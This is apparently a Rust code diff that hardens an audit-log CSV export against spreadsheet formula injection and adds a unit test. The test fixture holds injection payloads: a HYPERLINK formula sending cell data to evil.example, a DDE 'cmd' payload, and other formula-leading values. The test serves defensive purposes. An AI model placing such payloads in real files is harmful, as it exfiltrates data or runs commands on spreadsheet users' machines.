@@ -244,14 +244,9 @@ fn entry_view(e: &AuditEntry) -> Value {
     })
 }
 
+/// The audit log as CSV; its text comes from users, so every field goes
+/// through the guard against spreadsheet formulas.
 fn csv(entries: &[AuditEntry]) -> String {
-    fn field(text: &str) -> String {
-        if text.contains([',', '"', '\n', '\r']) {
-            format!("\"{}\"", text.replace('"', "\"\""))
-        } else {
-            text.to_string()
-        }
-    }
     let mut out = String::from("seq,at,subject,issuer,action,target,client_ip,detail\n");
     for e in entries {
         let row = [
@@ -264,8 +259,34 @@ fn csv(entries: &[AuditEntry]) -> String {
             e.client_ip.clone().unwrap_or_default(),
             e.detail.to_string(),
         ];
-        out.push_str(&row.iter().map(|f| field(f)).collect::<Vec<_>>().join(","));
+        out.push_str(&row.iter().map(|f| nuvola_types::csv::field(f)).collect::<Vec<_>>().join(","));
         out.push('\n');
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn audit_fields_are_never_read_as_formulas() {
+        let entry = AuditEntry {
+            seq: 1,
+            at: 0,
+            subject: "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".into(),
+            issuer: "+cmd|' /C calc'!A0".into(),
+            action: "-2+3".into(),
+            target: "@SUM(1+1)".into(),
+            client_ip: Some("\t=1+1".into()),
+            detail: json!({}),
+        };
+        let text = csv(&[entry]);
+        let row = text.lines().nth(1).unwrap();
+        assert_eq!(
+            row,
+            "1,1970-01-01T00:00:00.000Z,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",\
+             '+cmd|' /C calc'!A0,'-2+3,'@SUM(1+1),'\t=1+1,{}"
+        );
+    }
 }
